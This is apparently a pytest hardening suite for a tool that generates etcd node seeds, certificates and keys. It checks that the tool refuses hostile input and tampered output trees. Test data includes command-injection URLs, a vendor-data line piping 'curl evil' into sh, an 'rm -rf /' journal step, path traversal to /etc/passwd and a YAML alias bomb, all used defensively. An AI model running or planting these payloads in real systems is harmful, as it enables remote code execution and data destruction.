"""Hostile input and a hostile tree: no spec value escapes its file, no key is misused, verify sees every lie.

Each test here failed on the code before the hardening pass (see the closing
note of the hardening issue); the sections follow that issue's findings.
"""

from __future__ import annotations

import datetime as dt
import fcntl
import hashlib
import ipaddress
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID

from generator.iso import SeedEntry, build_iso, read_iso

from .conftest import ROOT, fake_bundle, spec_yaml
from .parsers import cloud_init_available, cloud_init_load, systemd_available, systemd_env
from .test_cli import SECRETS, build, run, tree

LINE_BREAKS = ["\n", "\r", "\r\n", "\x85", "\u2028", "\u2029", "\x0b", "\x0c"]


def set_spec(workdir: Path, old: str, new: str) -> None:
    spec = workdir / "cluster.yaml"
    text = spec.read_text()
    assert old in text, old
    spec.write_text(text.replace(old, new, 1))


def verify(workdir: Path) -> tuple[int, str, str]:
    return run("verify", "--spec", str(workdir / "cluster.yaml"), "--out", str(workdir / "out"))


def assert_refused(workdir: Path, field: str) -> str:
    """The build exits 1 with only error/hint lines, one naming `field`, and writes nothing."""
    code, _, err = build(workdir)
    assert code == 1, err
    assert any(line.startswith(f"error: {field}") for line in err.splitlines()), err
    assert all(line.startswith(("error: ", "hint: ", "warning: ")) for line in err.splitlines()), err
    assert not (workdir / "out").exists()
    return err


def yaml_dq(value: str) -> str:
    """A YAML double-quoted scalar holding `value` exactly, for writing hostile specs."""
    return json.dumps(value)


# --- Injection into the node -------------------------------------------------------------


@pytest.mark.parametrize("brk", LINE_BREAKS, ids=[repr(b) for b in LINE_BREAKS])
def test_token_with_a_line_break_is_refused(workdir: Path, brk: str) -> None:
    """A token cannot break out of user-data's block or add lines to options.env."""
    token = f"t{brk}ETCD_CLIENT_CERT_AUTH=false"
    set_spec(workdir, "  heartbeat_interval: 100", f"  token: {yaml_dq(token)}\n  heartbeat_interval: 100")
    assert_refused(workdir, "etcd.token")


@pytest.mark.parametrize("token", ["tok\\", "a b", "a#b", "a'b", 'a"b', "a$b", "-lead"])
def test_token_outside_the_safe_set_is_refused(workdir: Path, token: str) -> None:
    """A trailing backslash would make systemd join the next line; quotes and $ mean something to sh."""
    set_spec(workdir, "  heartbeat_interval: 100", f"  token: {yaml_dq(token)}\n  heartbeat_interval: 100")
    assert_refused(workdir, "etcd.token")


@pytest.mark.parametrize("url", ["https://x.example/`id`", "https://x.example/a b", "https://x.example/a\nb",
                                 "https://x.example/a\\b", "https://x.example/a\u2028b"])
def test_url_with_shell_syntax_is_refused(workdir: Path, url: str) -> None:
    """etcd.url reaches a root shell script: anything sh would read as syntax is refused."""
    set_spec(workdir, "bundle: etcd.tar.gz", f"url: {yaml_dq(url)}\n  sha256: '{'a' * 64}'")
    assert_refused(workdir, "etcd.url")


@pytest.mark.parametrize("url", [
    "https://objects.example/etcd.tgz?X-Amz-Signature=ab%2Fc&X-Amz-Expires=600",
    "https://x.example/e.tgz;touch$IFS/tmp/pwned;", "https://x.example/$(touch$IFS/tmp/pwned)",
    "https://x.example/x&touch$IFS/tmp/pwned&", "https://x.example/a'$(touch$IFS/tmp/pwned)'",
], ids=["presigned", "semicolon", "command-substitution", "ampersand", "single-quote"])
def test_url_reaches_sh_unchanged(workdir: Path, url: str) -> None:
    """Characters a URL may hold (& ; $ ( )) are quoted: sh assigns exactly the URL and runs nothing."""
    set_spec(workdir, "bundle: etcd.tar.gz", f"url: {yaml_dq(url)}\n  sha256: '{'a' * 64}'")
    assert build(workdir)[0] == 0
    user_data = yaml.safe_load((workdir / "out" / "demo" / "etcd01" / "user-data").read_text())
    script = next(f["content"] for f in user_data["write_files"] if f["path"] == "/usr/local/sbin/etcd-seed-install")
    line = next(line for line in script.splitlines() if line.startswith("url="))
    marker = Path("/tmp/pwned")
    marker.unlink(missing_ok=True)
    done = subprocess.run(["sh", "-euc", f'{line}\nprintf %s "$url"'], capture_output=True, text=True, check=True)
    assert done.stdout == url and not marker.exists()
    assert subprocess.run(["sh", "-n", "-c", script], check=False).returncode == 0


@pytest.mark.parametrize(("old", "new", "field"), [
    ("name: etcd02,", 'name: "etcd02\\n",', "nodes.1.name"),
    ('"52:54:00:00:00:02"', '"52:54:00:00:00:02\\n"', "nodes.1.mac"),
    ("domain: example.com", 'domain: "example.com\\n"', "cluster.domain"),
    ("name: demo", 'name: "demo\\n"', "cluster.name"),
    ('version: "3.5.1"', 'version: "3.5.1\\n"', "etcd.version"),
    ("name: etcd02,", 'name: etcd02, fqdn: "etcd02.example.com\\n",', "nodes.1.fqdn"),
])
def test_trailing_newline_is_refused(workdir: Path, old: str, new: str, field: str) -> None:
    """A `$`-anchored pattern accepts a trailing newline; every pattern must match the whole value."""
    set_spec(workdir, old, new)
    assert_refused(workdir, field)


@pytest.mark.parametrize("name", ["null", "yes", "on", "123", "0x1f", "0b101", "017", "true"])
def test_yaml_lookalike_names_stay_strings(workdir: Path, name: str) -> None:
    """A node name or search domain that YAML would read as null, a boolean or a number is quoted."""
    set_spec(workdir, "name: etcd02,", f"name: {yaml_dq(name)},")
    set_spec(workdir, "dns: [192.168.0.254]}", f"dns: [192.168.0.254], search: [{yaml_dq(name)}]}}")
    code, _, err = build(workdir)
    assert code == 0, err
    node = workdir / "out" / "demo" / name
    user_data = yaml.safe_load((node / "user-data").read_text())
    meta = yaml.safe_load((node / "meta-data").read_text())
    network = yaml.safe_load((node / "network-config").read_text())
    assert user_data["hostname"] == name and meta["local-hostname"] == name
    assert network["ethernets"]["primary"]["nameservers"]["search"] == [name]
    if cloud_init_available() is None:
        loaded = cloud_init_load([(node / "user-data").read_text(), (node / "meta-data").read_text()])
        assert loaded[0]["hostname"] == name and loaded[1]["local-hostname"] == name  # type: ignore[index]


# --- The CA and keys ---------------------------------------------------------------------


@pytest.mark.parametrize("name", ["ca", "admin", "pki"])
def test_node_names_the_build_uses_are_refused(workdir: Path, name: str) -> None:
    """A node named ca would overwrite the CA's files; admin would ship the root client key; pki writes inside pki/."""
    set_spec(workdir, "name: etcd03,", f"name: {name},")
    err = assert_refused(workdir, "nodes.2.name")
    assert "reserved" in err


def test_reserved_name_is_refused_when_joining_later(workdir: Path) -> None:
    """Added later with join: true, a node named ca is refused and the CA key stays where it is."""
    assert build(workdir)[0] == 0
    ca_key = (workdir / "out" / "demo" / "pki" / "ca.key").read_bytes()
    spec = workdir / "cluster.yaml"
    spec.write_text(spec.read_text().replace(
        "etcd:\n", '  - {name: ca, ip: 192.168.0.4, mac: "52:54:00:00:00:04", join: true}\netcd:\n', 1))
    code, _, err = build(workdir)
    assert code == 1 and "error: nodes.3.name: 'ca' is reserved" in err
    assert (workdir / "out" / "demo" / "pki" / "ca.key").read_bytes() == ca_key
    assert not (workdir / "out" / "demo" / "ca").exists()


def test_ca_key_as_a_node_key_is_refused(workdir: Path) -> None:
    """A node key that is the CA's key is never embedded in a seed: build and verify both refuse it."""
    assert build(workdir)[0] == 0
    pki = workdir / "out" / "demo" / "pki"
    shutil.copy(pki / "ca.key", pki / "etcd02.key")
    before = {p: p.read_bytes() for p in (workdir / "out").rglob("*") if p.is_file()}
    code, _, err = build(workdir)
    assert code == 1 and "error: pki/etcd02.key:" in err
    assert {p: p.read_bytes() for p in (workdir / "out").rglob("*") if p.is_file()} == before
    code, _, err = verify(workdir)
    assert code == 1 and "error: pki/etcd02.key: is the same key as pki/ca.key" in err


def test_key_shared_by_two_nodes_is_refused(workdir: Path) -> None:
    """Two nodes may never share a key, even with the manifest edited to record it for both."""
    assert build(workdir)[0] == 0
    root = workdir / "out" / "demo"
    shutil.copy(root / "pki" / "etcd01.key", root / "pki" / "etcd02.key")
    document = json.loads((root / "manifest.json").read_text())
    document["files"]["pki/etcd02.key"] = dict(document["files"]["pki/etcd01.key"])
    (root / "manifest.json").write_text(json.dumps(document))
    code, _, err = build(workdir)
    assert code == 1 and "error: pki/etcd02.key: is the same key as pki/etcd01.key" in err
    assert not (root / "etcd02" / "user-data").read_bytes().count((root / "pki" / "etcd01.key").read_bytes()[30:90])


def test_replaced_key_is_refused_not_reissued(workdir: Path) -> None:
    """A key whose public half differs from the manifest's record stops the build; --rekey replaces it on purpose."""
    assert build(workdir)[0] == 0
    pki = workdir / "out" / "demo" / "pki"
    foreign = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    foreign_pem = foreign.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                        serialization.NoEncryption())
    (pki / "etcd03.key").write_bytes(foreign_pem)
    code, _, err = build(workdir)
    assert code == 1 and "error: pki/etcd03.key: its public key differs from the one manifest.json records" in err
    code, out, err = run("build", "--spec", str(workdir / "cluster.yaml"), "--out", str(workdir / "out"),
                         "--rekey", "etcd03")
    assert code == 0, err
    assert "pki: etcd03: new key (--rekey)" in out
    assert (pki / "etcd03.key").read_bytes() != foreign_pem
    assert verify(workdir)[0] == 0


def test_missing_recorded_key_is_not_silently_replaced(workdir: Path) -> None:
    """A recorded key that vanished is an error: a new key would be a silent re-key."""
    assert build(workdir)[0] == 0
    (workdir / "out" / "demo" / "pki" / "etcd01.key").unlink()
    code, _, err = build(workdir)
    assert code == 1 and "error: pki/etcd01.key: missing, but manifest.json records its key" in err


def test_keys_without_their_manifest_are_not_adopted(workdir: Path, tmp_path: Path) -> None:
    """A pki/ planted (or copied) without the manifest that recorded it is refused, CA included."""
    assert build(workdir)[0] == 0
    (workdir / "out" / "demo" / "manifest.json").unlink()
    code, _, err = build(workdir)
    assert code == 1 and "error: pki/ca.key: not recorded in manifest.json" in err


def test_ca_key_appears_only_in_ca_key(workdir: Path) -> None:
    """No file of the tree, nor any file inside a seed ISO, holds the CA's private key, even after a node named ca."""
    assert build(workdir)[0] == 0
    spec = workdir / "cluster.yaml"
    spec.write_text(spec.read_text().replace(
        "etcd:\n", '  - {name: ca, ip: 192.168.0.4, mac: "52:54:00:00:00:04", join: true}\netcd:\n', 1))
    build(workdir)
    root = workdir / "out" / "demo"
    body = b"".join((root / "pki" / "ca.key").read_bytes().splitlines()[1:-1])
    holders = []
    for path in root.rglob("*"):
        if not path.is_file() or path == root / "pki" / "ca.key":
            continue
        contents = [path.read_bytes()] + (list(read_iso(path.read_bytes()).values()) if path.suffix == ".iso" else [])
        if any(body[:64] in b"".join(c.splitlines()) for c in contents):
            holders.append(path)
    assert holders == []


def _identity(directory: Path) -> tuple[Path, str]:
    path = directory / "identity.txt"
    subprocess.run(["age-keygen", "-o", str(path)], check=True, capture_output=True)
    public = subprocess.run(["age-keygen", "-y", str(path)], check=True, capture_output=True, text=True)
    return path, public.stdout.strip()


@pytest.mark.skipif(shutil.which("age") is None, reason="needs age; make test installs it")
def test_substituted_sealed_key_is_refused(workdir: Path, tmp_path: Path) -> None:
    """An attacker's key encrypted to the public recipient, with sealed.json edited to match, is not restored."""
    ident, recipient = _identity(tmp_path)
    assert build(workdir)[0] == 0
    common = ["--spec", str(workdir / "cluster.yaml"), "--out", str(workdir / "out")]
    assert run("seal", *common, "--recipient", recipient)[0] == 0
    pki = workdir / "out" / "demo" / "pki"
    attacker = ec.generate_private_key(ec.SECP256R1()).private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    sealed = subprocess.run(["age", "--encrypt", "--armor", "--recipient", recipient], input=attacker,
                            capture_output=True, check=True).stdout
    (pki / "etcd02.key.age").write_bytes(sealed)
    index = json.loads((pki / "sealed.json").read_text())
    index["etcd02.key"]["key_sha256"] = hashlib.sha256(attacker).hexdigest()
    (pki / "sealed.json").write_text(json.dumps(index))
    for key in pki.glob("*.key"):
        key.unlink()
    code, _, err = run("unseal", *common, "--identity", str(ident))
    assert code == 1 and "error: pki/etcd02.key.age: holds a key whose public key differs" in err
    assert not (pki / "etcd02.key").exists()


def _import_ca(workdir: Path, tmp_path: Path, age_days: int, days_left: int, cert_sign: bool) -> None:
    """Write a CA to import, and point the spec's pki.ca at it."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "imported CA")])
    now = dt.datetime.now(dt.UTC)
    usage = x509.KeyUsage(True, False, False, False, False, cert_sign, True, False, False)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(1).not_valid_before(now - dt.timedelta(days=age_days))
            .not_valid_after(now + dt.timedelta(days=days_left))
            .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
            .add_extension(usage, critical=True).sign(key, hashes.SHA256()))
    (tmp_path / "ca.crt").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    (tmp_path / "ca.key").write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                                        serialization.NoEncryption()))
    set_spec(workdir, "validity_days: 365}", f"validity_days: 365, ca: {{cert: {tmp_path / 'ca.crt'}, "
                                             f"key: {tmp_path / 'ca.key'}}}}}")


def test_imported_ca_without_key_cert_sign_is_refused(workdir: Path, tmp_path: Path) -> None:
    """A CA certificate whose keyUsage does not allow signing certificates is not imported."""
    _import_ca(workdir, tmp_path, age_days=1, days_left=900, cert_sign=False)
    err = assert_refused(workdir, "pki.ca")
    assert "keyCertSign" in err


def test_imported_ca_close_to_expiry_is_an_error(workdir: Path, tmp_path: Path) -> None:
    """A CA inside renew_before_days would make every build reissue every leaf: say so instead."""
    _import_ca(workdir, tmp_path, age_days=1000, days_left=10, cert_sign=True)
    err = assert_refused(workdir, "pki.ca.cert")
    assert "within pki.renew_before_days" in err


# --- Seeds that lie ------------------------------------------------------------------------


def _fix_manifest(root: Path, rel: str) -> None:
    document = json.loads((root / "manifest.json").read_text())
    data = (root / rel).read_bytes()
    document["files"][rel]["sha256"] = hashlib.sha256(data).hexdigest()
    document["files"][rel]["size"] = len(data)
    (root / "manifest.json").write_text(json.dumps(document, indent=2, sort_keys=True) + "\n")


def test_iso_with_extra_vendor_data_is_rebuilt_and_fails_verify(workdir: Path) -> None:
    """An extra vendor-data on a seed, with the manifest fixed up, fails verify and is replaced by build."""
    assert build(workdir)[0] == 0
    root = workdir / "out" / "demo"
    iso = root / "etcd01" / "seed.iso"
    files = read_iso(iso.read_bytes())
    files["vendor-data"] = b"#cloud-config\nruncmd: [[sh, -c, 'curl evil | sh']]\n"
    iso.write_bytes(build_iso([SeedEntry(n, d) for n, d in files.items()], 0))
    _fix_manifest(root, "etcd01/seed.iso")
    code, _, err = verify(workdir)
    assert code == 1 and "error: etcd01/seed.iso: holds" in err and "extra ['vendor-data']" in err
    code, out, _ = build(workdir)
    assert code == 0 and "(nothing changed)" not in out
    assert "vendor-data" not in read_iso(iso.read_bytes())
    assert verify(workdir)[0] == 0


def _resign(root: Path, name: str, edit: object) -> None:
    """Re-sign pki/<name>.crt with the real CA after `edit` changes its builder; fix the manifest."""
    pki = root / "pki"
    ca_cert = x509.load_pem_x509_certificate((pki / "ca.crt").read_bytes())
    ca_key = serialization.load_pem_private_key((pki / "ca.key").read_bytes(), None)
    old = x509.load_pem_x509_certificates((pki / f"{name}.crt").read_bytes())[0]
    builder = (x509.CertificateBuilder().subject_name(old.subject).issuer_name(old.issuer).public_key(old.public_key())
               .serial_number(x509.random_serial_number()).not_valid_before(old.not_valid_before_utc)
               .not_valid_after(old.not_valid_after_utc))
    for ext in old.extensions:
        builder = builder.add_extension(ext.value, ext.critical)
    builder = edit(builder, old)  # type: ignore[operator]
    new = builder.sign(ca_key, hashes.SHA256())
    (pki / f"{name}.crt").write_bytes(new.public_bytes(serialization.Encoding.PEM) +
                                      ca_cert.public_bytes(serialization.Encoding.PEM))
    _fix_manifest(root, f"pki/{name}.crt")


def _extra_sans(builder: x509.CertificateBuilder, old: x509.Certificate) -> x509.CertificateBuilder:
    san = old.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    extended = x509.SubjectAlternativeName([*san, x509.IPAddress(ipaddress.IPv6Address("fd00::66")),
                                            x509.UniformResourceIdentifier("spiffe://evil/etcd")])
    rebuilt = x509.CertificateBuilder(old.issuer, old.subject, old.public_key(), old.serial_number,
                                      old.not_valid_before_utc, old.not_valid_after_utc)
    for ext in old.extensions:
        rebuilt = rebuilt.add_extension(extended if isinstance(ext.value, x509.SubjectAlternativeName) else ext.value,
                                        ext.critical)
    return rebuilt


def _critical_extra(builder: x509.CertificateBuilder, old: x509.Certificate) -> x509.CertificateBuilder:
    return builder.add_extension(x509.InhibitAnyPolicy(0), critical=True)


def _long_life(builder: x509.CertificateBuilder, old: x509.Certificate) -> x509.CertificateBuilder:
    rebuilt = x509.CertificateBuilder(old.issuer, old.subject, old.public_key(), old.serial_number,
                                      old.not_valid_before_utc, old.not_valid_before_utc + dt.timedelta(days=3000))
    for ext in old.extensions:
        rebuilt = rebuilt.add_extension(ext.value, ext.critical)
    return rebuilt


def _future(builder: x509.CertificateBuilder, old: x509.Certificate) -> x509.CertificateBuilder:
    start = dt.datetime.now(dt.UTC) + dt.timedelta(days=30)
    rebuilt = x509.CertificateBuilder(old.issuer, old.subject, old.public_key(), old.serial_number, start,
                                      start + dt.timedelta(days=365) + dt.timedelta(hours=1))
    for ext in old.extensions:
        rebuilt = rebuilt.add_extension(ext.value, ext.critical)
    return rebuilt


@pytest.mark.parametrize(("edit", "expected"), [
    (_extra_sans, "SANs are"),
    (_critical_extra, "has an unexpected critical extension"),
    (_long_life, "validity is"),
    (_future, "is not valid before"),
], ids=["ipv6-and-uri-sans", "critical-extension", "lifetime", "not-before-in-future"])
def test_resigned_leaf_is_caught_and_reissued(workdir: Path, edit: object, expected: str) -> None:
    """A leaf the real CA signed with anything the build would not issue fails verify, and build replaces it."""
    assert build(workdir)[0] == 0
    root = workdir / "out" / "demo"
    _resign(root, "etcd02", edit)
    code, _, err = verify(workdir)
    assert code == 1 and f"error: pki/etcd02.crt: {expected}" in err, err
    code, out, _ = build(workdir)
    assert code == 0 and "pki: etcd02: reissued" in out
    assert verify(workdir)[0] == 0


def test_leaf_of_another_key_type_fails_verify(workdir: Path) -> None:
    """A node certificate and key of another type than the spec asks for fail verify."""
    assert build(workdir)[0] == 0
    set_spec(workdir, "key_type: rsa2048", "key_type: ecdsa-p256")
    code, _, err = verify(workdir)
    assert code == 1 and "error: pki/etcd01.crt: key is rsa2048, the spec asks for ecdsa-p256" in err


# --- A reviewer's checkout -------------------------------------------------------------------


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True,
                          env={"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e", "GIT_COMMITTER_NAME": "t",
                               "GIT_COMMITTER_EMAIL": "t@e", "PATH": "/usr/bin:/bin"}).stdout


def _reviewer_checkout(workdir: Path, tmp_path: Path) -> Path:
    out = workdir / "out"
    _git(out, "init", "-q")
    _git(out, "add", "-A")
    _git(out, "commit", "-q", "-m", "c")
    review = tmp_path / "review"
    review.mkdir()
    shutil.copy(workdir / "cluster.yaml", review)
    shutil.copy(workdir / "etcd.tar.gz", review)
    subprocess.run(["git", "clone", "-q", str(out), str(review / "out")], check=True)
    return review


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
@pytest.mark.parametrize(("old", "new", "expected"), [
    ("heartbeat_interval: 100", "heartbeat_interval: 150", "etcd01/options.env: differs from what the spec renders"),
    ("gateway: 192.168.0.254", "gateway: 192.168.0.253", "etcd02/network-config: differs from what the spec renders"),
    ("backend: vxlan", "backend: host-gw", "etcd01/user-data.redacted: differs from what the spec renders"),
    ("name: demo", "name: demo", "pki/etcdctl.env: differs from what the spec renders"),
], ids=["heartbeat", "gateway", "flannel", "etcdctl-env"])
def test_reviewer_checkout_compares_public_files_with_the_spec(workdir: Path, tmp_path: Path, old: str, new: str,
                                                               expected: str) -> None:
    """With no secret present, verify still renders every public file from the spec and compares it."""
    assert build(workdir)[0] == 0
    review = _reviewer_checkout(workdir, tmp_path)
    assert verify(review)[0] == 0
    if "etcdctl" in expected:
        edited = review / "out" / "demo" / "pki" / "etcdctl.env"
        edited.write_text(edited.read_text().replace("2379", "2378", 1))
        _fix_manifest(review / "out" / "demo", "pki/etcdctl.env")
    else:
        set_spec(review, old, new)
    code, _, err = verify(review)
    assert code == 1 and f"error: {expected}" in err, err


def test_stray_files_in_pki_and_loose_modes_are_errors(workdir: Path) -> None:
    """A 0644 ca.key.bak beside the keys, and a pki/ that others can read, fail verify."""
    assert build(workdir)[0] == 0
    pki = workdir / "out" / "demo" / "pki"
    shutil.copy(pki / "ca.key", pki / "ca.key.bak")
    (pki / "ca.key.bak").chmod(0o644)
    pki.chmod(0o755)
    code, _, err = verify(workdir)
    assert code == 1
    assert "error: pki/ca.key.bak: is not a file the build wrote" in err
    assert "error: pki/: mode is 0755" in err


def test_missing_secret_is_an_error_in_an_operator_tree(workdir: Path) -> None:
    """Where secrets are present, one that is missing is an error, not a reviewer's warning."""
    assert build(workdir)[0] == 0
    (workdir / "out" / "demo" / "etcd02" / "user-data").unlink()
    code, _, err = verify(workdir)
    assert code == 1 and "error: etcd02/user-data: secret missing from this operator's tree" in err


def test_password_hash_is_not_in_the_redacted_user_data(workdir: Path) -> None:
    """user-data.redacted, which is committed, names the password hash only by its sha256."""
    digest = "$6$rounds=5000$saltsaltsaltsalt$" + "a" * 86
    spec = workdir / "cluster.yaml"
    spec.write_text(spec.read_text() + f"admin: {{password_hash: '{digest}'}}\n")
    assert build(workdir)[0] == 0
    node = workdir / "out" / "demo" / "etcd01"
    assert digest in (node / "user-data").read_text()
    redacted = (node / "user-data.redacted").read_text()
    assert digest not in redacted and hashlib.sha256(digest.encode()).hexdigest() in redacted


# --- The commit path -------------------------------------------------------------------------


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_following_the_readme_stages_no_secret(workdir: Path, tmp_path: Path) -> None:
    """In a repository laid out like this one (its .gitignore), `git add output/demo` stages no secret."""
    repo = tmp_path / "repo"
    repo.mkdir()
    shutil.copy(ROOT / ".gitignore", repo / ".gitignore")
    shutil.copy(workdir / "cluster.yaml", repo)
    shutil.copy(workdir / "etcd.tar.gz", repo)
    code, _, err = run("build", "--spec", str(repo / "cluster.yaml"), "--out", str(repo / "output"))
    assert code == 0, err
    (repo / "output" / "demo" / "pki" / ".etcd-seed-tmp.ca.key.0123").write_text("leftover")
    _git(repo, "init", "-q")
    _git(repo, "add", "output/demo")
    staged = set(_git(repo, "ls-files").split())
    assert "output/demo/etcd01/user-data.redacted" in staged and "output/demo/manifest.json" in staged
    assert not {f"output/demo/{s}" for s in SECRETS} & staged
    assert not [p for p in staged if ".etcd-seed-tmp." in p]


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_root_gitignore_ignores_secret_patterns(tmp_path: Path) -> None:
    """The project's own .gitignore keeps keys, full user-data, ISOs and temp files out, wherever they are."""
    repo = tmp_path / "repo"
    repo.mkdir()
    shutil.copy(ROOT / ".gitignore", repo / ".gitignore")
    _git(repo, "init", "-q")
    paths = ["output/x/pki/ca.key", "output/x/etcd01/user-data", "output/x/etcd01/seed.iso",
             "output/x/pki/.etcd-seed-tmp.ca.key.ab12", "elsewhere/prod/pki/etcd01.key"]
    done = subprocess.run(["git", "-C", str(repo), "check-ignore", *paths], capture_output=True, text=True, check=False)
    assert sorted(done.stdout.split()) == sorted(paths)


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_verify_fails_when_git_tracks_a_secret(workdir: Path) -> None:
    """A key forced into git's index is an error for verify."""
    assert build(workdir)[0] == 0
    out = workdir / "out"
    _git(out, "init", "-q")
    _git(out, "add", "-A")
    _git(out, "add", "-f", "demo/pki/etcd01.key")
    code, _, err = verify(workdir)
    assert code == 1 and "error: pki/etcd01.key: is in git's index" in err


KILL_AT = [1, 2, 3, 4, 6, 9, 15, 25, 34, 36]


def test_a_run_killed_at_any_rename_can_be_continued(workdir: Path) -> None:
    """Killed (no cleanup at all) at the Nth rename, the next build completes and verify passes; no temp file stays."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    for n in KILL_AT:
        out = workdir / f"out{n}"
        hook = ("import os, sys\nreal = os.replace\ncount = [0]\n"
                "def replace(a, b):\n    count[0] += 1\n"
                f"    if count[0] == {n}:\n        os._exit(9)\n    real(a, b)\n"
                "os.replace = replace\nfrom generator._cli import main\n"
                f"sys.exit(main(['build', '--spec', 'cluster.yaml', '--out', '{out.name}']))\n")
        killed = subprocess.run([sys.executable, "-c", hook], cwd=workdir, env=env, capture_output=True, check=False)
        assert killed.returncode in (0, 9), killed.stderr
        code, _, err = run("build", "--spec", str(workdir / "cluster.yaml"), "--out", str(out))
        assert code == 0, f"kill at rename {n}: {err}"
        code, _, err = run("verify", "--spec", str(workdir / "cluster.yaml"), "--out", str(out))
        assert code == 0, f"kill at rename {n}: {err}"
        assert not list(out.rglob(".etcd-seed-tmp.*")) and not (out / "demo" / "pki" / "pending.json").exists()


TEMP = ".etcd-seed-tmp.ca.key.0123456789ab"


@pytest.mark.parametrize("document", [
    {"renames": [["../evil", "pki/ca.key"]]},
    {"renames": [[f"pki/{TEMP}", "../../etc/passwd"]]},
    {"renames": [[f"pki/{TEMP}", "pki/etcd01.key"]]},  # the temporary name of another file
    {"renames": [], "deletes": ["manifest.json"], "sealed_moves": [], "step": None},
    {"renames": [], "deletes": [], "sealed_moves": [["etcd01.key", "ca.key"]], "step": None},
    {"renames": [], "deletes": [], "sealed_moves": [], "step": "rm -rf /"},
    {"renames": "pki/ca.key"},
], ids=lambda d: str(d)[:40])
def test_a_hostile_journal_is_refused(workdir: Path, document: dict[str, object]) -> None:
    """pki/pending.json lists the renames a killed run was making; as a file of the output tree it may be anyone's:
    a path out of the tree, another file's temporary name, or a delete the build never makes is refused, and
    nothing is moved."""
    assert build(workdir)[0] == 0
    pki = workdir / "out" / "demo" / "pki"
    (pki / TEMP).write_bytes(b"not a key")
    before = {p: p.read_bytes() for p in (workdir / "out").rglob("*") if p.is_file()}
    full = {"deletes": [], "sealed_moves": [], "step": None, **document}
    (pki / "pending.json").write_text(json.dumps(full))
    code, _, err = build(workdir)
    assert code == 1 and "error: " in err and "Traceback" not in err and "internal error" not in err, err
    after = {p: p.read_bytes() for p in (workdir / "out").rglob("*") if p.is_file()}
    assert {k: v for k, v in after.items() if k.name != "pending.json"} == \
        {k: v for k, v in before.items() if k.name != "pending.json"}


def test_a_journalled_link_is_not_followed(workdir: Path) -> None:
    """A temporary name the journal lists that is a link (to a file of the attacker's choosing) is not put in place."""
    assert build(workdir)[0] == 0
    pki = workdir / "out" / "demo" / "pki"
    (pki / TEMP).symlink_to("/etc/hostname")
    (pki / "pending.json").write_text(json.dumps({"renames": [[f"pki/{TEMP}", "pki/ca.key"]], "deletes": [],
                                                  "sealed_moves": [], "step": None}))
    key = (pki / "ca.key").read_bytes()
    code, _, err = build(workdir)
    assert code == 1 and f"pki/{TEMP}: not a regular file; refusing to put it in place" in err, err
    assert (pki / "ca.key").read_bytes() == key


def test_stale_temp_files_are_removed_and_flagged(workdir: Path) -> None:
    """A temp file a killed run left behind fails verify until the next build removes it."""
    assert build(workdir)[0] == 0
    leftover = workdir / "out" / "demo" / "pki" / ".etcd-seed-tmp.etcd01.key.abcdef"
    leftover.write_bytes((workdir / "out" / "demo" / "pki" / "etcd01.key").read_bytes())
    code, _, err = verify(workdir)
    assert code == 1 and "error: pki/.etcd-seed-tmp.etcd01.key.abcdef: left by a run that was killed" in err
    code, out, _ = build(workdir)
    assert code == 0 and "removed pki/.etcd-seed-tmp.etcd01.key.abcdef" in out and not leftover.exists()


# --- Robustness ----------------------------------------------------------------------------------


def _cli(workdir: Path, *args: str, timeout: float = 30, env: dict[str, str] | None = None
         ) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "generator", *args], cwd=workdir, capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}, check=False)


def test_alias_bomb_is_refused_at_once(workdir: Path) -> None:
    """A few hundred bytes of nested aliases are refused, not expanded into gigabytes."""
    levels = zip("abcdefgh", "bcdefghi", strict=True)
    bomb = 'a: &a ["x","x","x","x","x","x","x","x","x"]\n' + "".join(
        f"{c}: &{c} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n" for p, c in levels)
    set_spec(workdir, 'version: "3.5.1"', "version: *i")
    (workdir / "cluster.yaml").write_text(bomb + (workdir / "cluster.yaml").read_text())
    start = time.monotonic()
    done = _cli(workdir, "build", "--spec", "cluster.yaml", "--out", "out")
    print(f"alias bomb refused in {time.monotonic() - start:.2f} s")
    assert done.returncode == 1 and "aliases (*name) are not allowed" in done.stderr
    assert not (workdir / "out").exists()


@pytest.mark.parametrize("target", ["spec", "bundle", "ca", "ca_next"])
@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_special_files_as_inputs_are_refused(workdir: Path, target: str, kind: str) -> None:
    """A FIFO or /dev/zero as the spec, the bundle or the CA file is refused at once, not read forever."""
    special = workdir / "special"
    if kind == "fifo":
        os.mkfifo(special)
    else:
        special.symlink_to("/dev/zero")
    spec = "cluster.yaml"
    if target == "spec":
        spec = "special"
    elif target == "bundle":
        set_spec(workdir, "bundle: etcd.tar.gz", "bundle: special")
    else:
        set_spec(workdir, "validity_days: 365}", f"validity_days: 365, {target}: {{cert: special, key: special}}}}")
    done = _cli(workdir, "build", "--spec", spec, "--out", "out", timeout=20)
    assert done.returncode == 1 and "is not a regular file" in done.stderr, done.stderr
    if target.startswith("ca"):
        assert f"error: pki.{target}.cert: " in done.stderr, done.stderr
    assert not (workdir / "out").exists()


